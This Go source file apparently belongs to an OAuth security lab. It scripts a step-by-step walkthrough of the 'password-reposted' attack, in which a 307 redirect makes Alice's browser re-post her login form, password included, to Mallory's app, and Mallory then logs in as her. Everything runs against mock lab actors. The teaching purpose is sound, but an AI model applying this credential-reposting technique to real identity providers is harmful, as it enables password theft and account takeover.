package walkthrough

import (
	"context"
	"maps"
	"net/http"
	"net/url"

	"claimcheck/mockprovider/lab"
	"claimcheck/mockprovider/trace"
)

// passwordReposted is the attack password-reposted: AcmeID answers the login form
// with 307, and the browser posts it on to an app of Mallory's (RFC 9700 §4.12).
func passwordReposted() *script {
	quiz := func(w *Walk, more url.Values) string {
		q := url.Values{
			"response_type": {"token"}, "client_id": {lab.QuizFun}, "redirect_uri": {w.run.Lab().MalloryURL() + "/quiz"},
			"scope": {lab.ScopeStepsRead}, "state": {"mallory"},
		}
		maps.Copy(q, more)
		return authorizationURL(w, q)
	}
	link := aliceOpens("link", "quiz", "/authorize", func(w *Walk) (string, error) {
		return quiz(w, url.Values{"prompt": {"login"}}), nil
	})
	link.good = func(w *Walk, e *trace.Entry) bool { return accepted(w, e) && asks(e, "login") != "" }
	again := func(_ *Walk, e *trace.Entry) bool { return e.Response.Status == http.StatusTemporaryRedirect }
	return &script{actions: map[string]*action{
		"quiz": {
			half: HalfRequest, owns: during("quiz", "/consent"), good: redirects,
			preview: func(_ context.Context, w *Walk) (*Draft, error) { return get(quiz(w, nil)) },
			back: func(ctx context.Context, w *Walk, _ *http.Request) (*trace.Entry, error) {
				return allowForGood(ctx, w, quiz(w, nil))
			},
		},
		"link": link,
		"login": {
			half: HalfRequest, after: "link", owns: during("login", "/login"), good: again,
			preview: previewPage("login", "link"), person: logIn,
			pass: notRedirected, kept: keptRule("login_see_other"),
		},
		"login-check": {of: "login", half: HalfFindings},
		"delivery": {
			half: HalfRequest, after: "login", owns: to(trace.RoleAttacker, http.MethodPost, "/quiz"), good: accepted,
			preview: needs("login", "has not been told to post it again", previewRepost), back: repost,
		},
		"takeover": {
			half: HalfRequest, after: "delivery", owns: during("takeover", "/login"), good: redirects,
			preview: needs("delivery", "has posted nothing to Mallory yet", func(_ context.Context, w *Walk) (*Draft, error) {
				return get(connectPage(w))
			}),
			back: func(ctx context.Context, w *Walk, _ *http.Request) (*trace.Entry, error) {
				return logInBy(ctx, connectPage(w), w.run.BrowseAsMallory)
			},
		},
	}}
}

// allowForGood is a login of Alice's and her consent, which she wants remembered.
func allowForGood(ctx context.Context, w *Walk, start string) (*trace.Entry, error) {
	e, err := logInBy(ctx, start, w.run.Browse)
	if err != nil || asks(e, "consent") == "" {
		return e, err
	}
	if e, err = w.run.Browse(ctx, http.MethodGet, asks(e, "consent"), nil); err != nil {
		return nil, err
	}
	f, err := formOf(e)
	if err != nil {
		return nil, err
	}
	f.set("remember", "yes")
	f.press("allow")
	return w.run.Browse(ctx, http.MethodPost, f.action, f.values)
}

// previewRepost is the login form once more, at the address to which its answer
// leads. The password is masked, as in the record.
func previewRepost(_ context.Context, w *Walk) (*Draft, error) {
	e := w.current("login")
	form, err := url.ParseQuery(string(e.Request.Body))
	if err != nil {
		return nil, err
	}
	to := *e.Response.Location()
	to.Fragment, to.RawFragment = "", "" // stays in the browser
	return postForm(to.String(), form)
}

// repost does what a browser does that is answered with 307 (RFC 9110 §15.4.8):
// Alice's has the password that the record does not have.
func repost(ctx context.Context, w *Walk, edited *http.Request) (*trace.Entry, error) {
	d, err := previewRepost(ctx, w)
	if err != nil {
		return nil, err
	}
	if edited != nil {
		if d, err = draftOf(edited); err != nil {
			return nil, err
		}
	}
	values, err := url.ParseQuery(d.Body)
	if err != nil {
		return nil, err
	}
	f := &form{values: values}
	fill(f, "alice")
	return w.run.Browse(ctx, http.MethodPost, d.URL.String(), values)
}
